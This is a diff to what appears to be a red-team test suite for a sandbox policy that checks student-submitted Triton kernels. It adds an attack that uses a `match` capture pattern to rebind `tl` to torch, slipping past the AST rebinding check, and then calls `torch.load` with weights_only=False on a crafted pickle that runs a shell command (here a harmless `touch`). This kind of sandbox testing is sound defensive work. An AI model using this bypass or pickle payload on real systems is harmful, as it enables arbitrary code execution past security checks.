@@ -292,3 +292,19 @@ class GateFixed(torch.nn.Module):
 
 DYNAMIC_SHAPES = {"x": {0: torch.export.Dim("batch", min=2, max=64)}}
 '''
+
+# 7.1: a policy escape. A `match` capture pattern binds a name without an ast.Name node, so the
+# policy's "tl may not be rebound" never sees it: `case tl:` makes tl the torch module, and
+# `tl.load` (kept for Triton) is torch.load, with weights_only=False: a pickle runs any code.
+# The pickle must be a file the student controls inside the sandbox: a library file they own
+# (e.g. labkit/compiler/decompose.py, 5.1, whose whole text is the protocol-0 pickle below), at
+# ../code/<path> from the fix sandbox's cwd. Here: RT_PAYLOAD, written by the test.
+PAYLOAD_TEXT = "cos\nsystem\n(S'touch /tmp/rt_pwned_by_pickle'\ntR."
+ATTACKS["7.1", "match_rebinds_tl_torch_load"] = '''
+@triton.jit
+def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
+    match torch:
+        case tl:
+            pass
+    tl.load("/tmp/rt_payload.pkl", weights_only=False)
+'''
